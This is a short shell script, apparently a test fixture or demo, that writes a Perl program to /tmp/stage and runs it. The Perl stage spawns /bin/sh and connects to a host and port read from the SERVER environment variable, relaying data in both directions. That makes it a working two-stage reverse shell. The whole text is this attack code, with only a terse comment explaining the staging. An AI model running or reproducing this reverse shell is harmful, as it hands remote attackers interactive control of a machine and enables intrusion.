# what: the first stage only writes the second, which is a program of its own and has the connection
# server: shell
echo begun
cat > /tmp/stage << 'P'
use Socket;
use IPC::Open2;
$pid = open2(my $out, my $in, "/bin/sh 2>&1");
($h, $p) = split /:/, $ENV{SERVER};
socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in($p, inet_aton($h))) or die;
if (fork) { while (sysread(S, $b, 1024)) { syswrite($in, $b) } exit }
while (sysread($out, $b, 1024)) { syswrite(S, $b) }
shutdown(S, 2);
P
perl /tmp/stage
echo done
